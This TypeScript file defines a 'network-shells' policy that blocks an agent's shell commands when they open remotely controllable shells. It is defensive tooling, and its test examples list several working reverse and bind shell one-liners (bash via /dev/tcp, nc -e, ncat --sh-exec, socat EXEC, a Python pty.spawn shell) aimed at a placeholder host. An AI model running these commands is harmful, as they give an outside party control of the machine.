import { abstains, definePolicy, denies, deny } from 'hookgate/policy'
import { isShellOpened } from './flowing.ts'

/** Remote shells, and connections without one. */
const networkShellExamples = [
  denies('a device', 'bash -i >& /dev/tcp/a.example/99 0>&1'),
  abstains('a device without a shell', 'echo hi > /dev/tcp/a.example/99'),
  denies('in a shell', `bash -c 'sh -i <&3 >&3' 3<>/dev/tcp/a.example/99`),
  abstains('a shell in a shell', `bash -c 'sh -c "ls" > x'`),
  denies('netcat', 'nc -e /bin/sh a.example 99'),
  abstains('netcat without a shell', 'nc -zv a.example 99'),
  denies('a shell that waits', 'ncat -lk 99 --sh-exec "bash"'),
  abstains('another that waits', 'ncat -lk 99 --sh-exec "cat"'),
  denies('socat', "socat TCP:a.example:99 EXEC:'bash -li',pty,stderr"),
  abstains('socat without a shell', 'socat TCP-LISTEN:99,fork EXEC:cat'),
  denies(
    'by code',
    `python3 -c 'import socket,os,pty; s=socket.socket(); s.connect(("a.example",9)); os.dup2(s.fileno(),0); pty.spawn("sh")'`,
  ),
  abstains('by code without a shell', `python3 -c 'import socket; print(socket.gethostbyname("a.example"))'`),
  abstains('said', 'echo "nc -e /bin/sh a.example 99"'),
  abstains('allowed', 'nc -e /bin/sh a.example 99', { params: { allowNetworkShells: true } }),
] as const

export default definePolicy({
  id: 'network-shells',
  description: 'Refuses shells that can be controlled remotely',
  severity: 'critical',
  terminalOnly: true,
  on: 'PreToolUse',
  tool: 'shell',
  carried: ['machine', 'recipe', 'ci', 'container', 'prompt'],
  interest: { impacts: ['open'] },
  params: {
    allowNetworkShells: { type: 'boolean', default: false, description: 'whether such shells are part of the work' },
  },
  decide({ impacts, params }) {
    if (params.allowNetworkShells) return undefined
    const opened = impacts.find(isShellOpened)
    if (opened === undefined) return undefined
    return deny(
      `\`${opened.words}\` lets whoever is at the other end run commands here: run those that you need yourself`,
      { at: opened.by },
    )
  },
  examples: networkShellExamples,
})
